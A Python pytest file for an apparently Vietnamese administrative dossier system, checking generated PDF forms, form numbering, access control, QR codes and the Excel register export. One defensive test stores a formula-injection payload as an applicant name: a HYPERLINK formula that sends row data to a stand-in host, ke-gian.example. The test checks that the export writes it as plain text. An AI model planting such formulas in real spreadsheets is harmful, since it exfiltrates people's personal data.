"""Forms 02–06 as PDF: the Vietnamese text read back with poppler's pdftotext, numbers per unit."""

import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers.models import State
from dossiers.printing.pdf import qr_code
from dossiers.tests.conftest import APPLICANT, at
from dossiers.tests.test_transitions import REASON, _act, reach

PDFTOTEXT = shutil.which("pdftotext")


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF-")
    if PDFTOTEXT is None:
        pytest.fail("pdftotext (Debian package poppler-utils) is needed to read PDFs back")
    out = subprocess.run([PDFTOTEXT, "-", "-"], input=content, capture_output=True, check=True)
    return " ".join(out.stdout.decode("utf-8").split())


def get_pdf(client, code, form, **params):
    r = client.get(reverse("dossiers:form_pdf", args=[code, form]), params)
    assert r.status_code == 200, r.content[:200]
    assert r["Content-Type"] == "application/pdf"
    return pdf_text(r.content)


def test_form02_lists_the_missing_papers_with_its_number(client_for, org, make_dossier):
    d = reach(org, make_dossier, State.SUPPLEMENT_REQUESTED)
    text = get_pdf(client_for(org.specialist), d.code, "02")
    assert "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    assert "SỞ TƯ PHÁP TỈNH THỬ NGHIỆM" in text
    assert "Số: 1/PBS-STPTTN" in text
    assert "1. Bản chụp CCCD" in text and REASON in text
    assert "Trần Thị Bích" in text and d.code in text


def test_form_numbers_count_per_unit_and_year(org, make_dossier):
    first = reach(org, make_dossier, State.SUPPLEMENT_REQUESTED)
    second = reach(org, make_dossier, State.SUPPLEMENT_REQUESTED)
    numbers = [e.data["document_number"] for e in
               (first.events.get(action="request_supplement"),
                second.events.get(action="request_supplement"))]
    assert numbers == ["1/PBS-STPTTN", "2/PBS-STPTTN"]


def test_form03_gives_the_reason_for_refusal(client_for, org, make_dossier):
    d = reach(org, make_dossier, State.REFUSED)
    text = get_pdf(client_for(org.desk), d.code, "03")
    assert "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ" in text
    assert "Số: 1/PTC-TTPTTN" in text
    assert REASON in text


def test_form04_carries_old_and_new_dates_and_the_head(client_for, org, make_dossier):
    d = reach(org, make_dossier, State.PROCESSING)
    _act(d, org.head, "apologize", "2026-03-03 09:00", reason="Cần xác minh tại địa phương",
         data={"new_due_at": "2026-03-10T09:00:00+07:00"})
    text = get_pdf(client_for(org.head), d.code, "04")
    assert "PHIẾU XIN LỖI VÀ ĐỀ NGHỊ GIA HẠN THỜI GIAN GIẢI QUYẾT" in text
    assert "Số: 1/PXL-STPTTN" in text
    assert "09 giờ 00 phút, ngày 05/03/2026" in text  # the appointment it replaces
    assert "09 giờ 00 phút, ngày 10/03/2026" in text  # the new one
    assert "Cần xác minh tại địa phương" in text and "THỦ TRƯỞNG CƠ QUAN" in text
    assert org.head.full_name in text


def test_form05_has_one_row_per_hand_off(client_for, org, make_dossier):
    d = reach(org, make_dossier, State.PROCESSING)
    text = get_pdf(client_for(org.desk), d.code, "05")
    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in text
    assert "Tiếp nhận hồ sơ" in text and "Sở Tư pháp tỉnh Thử nghiệm" in text


def test_a_form_not_issued_is_404(client_for, org, make_dossier):
    d = make_dossier()
    r = client_for(org.desk).get(reverse("dossiers:form_pdf", args=[d.code, "04"]))
    assert r.status_code == 404
    r = client_for(org.desk).get(reverse("dossiers:form_pdf", args=[d.code, "09"]))
    assert r.status_code == 404


def test_another_units_officer_gets_no_form(client_for, org, make_dossier):
    d = make_dossier()
    r = client_for(org.other_desk).get(reverse("dossiers:form_pdf", args=[d.code, "05"]))
    assert r.status_code == 404


def test_register_as_pdf_and_excel(client_for, org, make_dossier):
    d = make_dossier(when="2026-03-02 09:00")
    _act(d, org.desk, "forward", "2026-03-02 09:30", data={"assignee": org.specialist.pk})
    desk = client_for(org.desk)
    period = {"tu-ngay": "2026-03-01", "den-ngay": "2026-03-31"}
    r = desk.get(reverse("dossiers:register_pdf"), period)
    text = pdf_text(r.content)
    assert "SỔ THEO DÕI HỒ SƠ" in text and "Từ ngày 01/03/2026 đến ngày 31/03/2026" in text
    assert "Trần Thị Bích" in text
    r = desk.get(reverse("dossiers:register_xlsx"), period)
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = [row for row in sheet.iter_rows(values_only=True) if row and row[0] == 1]
    assert len(rows) == 1
    assert rows[0][1] == d.code and rows[0][3] == "Trần Thị Bích"
    assert rows[0][6] == at("2026-03-02 09:00").replace(tzinfo=None)


def test_register_excel_writes_a_typed_formula_as_text(client_for, org, make_dossier):
    """An applicant's name or address beginning with "=" stays text in the exported register:
    as a formula it would run on the officer's computer and could send the rows' personal data
    to another site (formula injection; motcua/spreadsheets.py)."""
    name = '=HYPERLINK("http://ke-gian.example/?d="&D7&E7,"Bấm xem")'
    address = "=1+2"
    make_dossier(applicant=APPLICANT | {"name": name, "address": address})
    r = client_for(org.desk).get(reverse("dossiers:register_xlsx"),
                                 {"tu-ngay": "2026-03-01", "den-ngay": "2026-03-31"})
    sheet = load_workbook(io.BytesIO(r.content)).active
    row = next(row for row in sheet.iter_rows() if row[0].value == 1)
    assert row[3].value == name and row[3].data_type == "s"
    assert row[4].value.startswith(address) and row[4].data_type == "s"


def test_form01_has_the_appointment_and_a_qr_code_to_the_status_page(client_for, org,
                                                                       make_dossier):
    d = make_dossier(when="2026-03-02 09:00")
    r = client_for(org.desk).get(reverse("dossiers:form_pdf", args=[d.code, "01"]))
    text = pdf_text(r.content)
    assert "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text
    assert "TRUNG TÂM PVHCC TỈNH THỬ NGHIỆM" in text
    assert "Trần Thị Bích" in text and "056185004321" in text
    assert "Tờ khai yêu cầu" in text and "Bản chụp CCCD" in text
    assert "3 ngày làm việc" in text
    assert "Thời gian nhận hồ sơ: 09 giờ 00 phút, ngày 02/03/2026" in text
    assert "09 giờ 00 phút, ngày 05/03/2026" in text
    assert d.lookup_secret in text and "/tra-cuu/?ma=" in text


def test_the_qr_code_encodes_the_status_page_address():
    url = "http://127.0.0.1:8000/tra-cuu/?ma=000.00.12.H99-260302-0001&bi-mat=W4GT7C9R"
    drawing = qr_code(url)
    assert [w.value for w in drawing.contents] == [url]
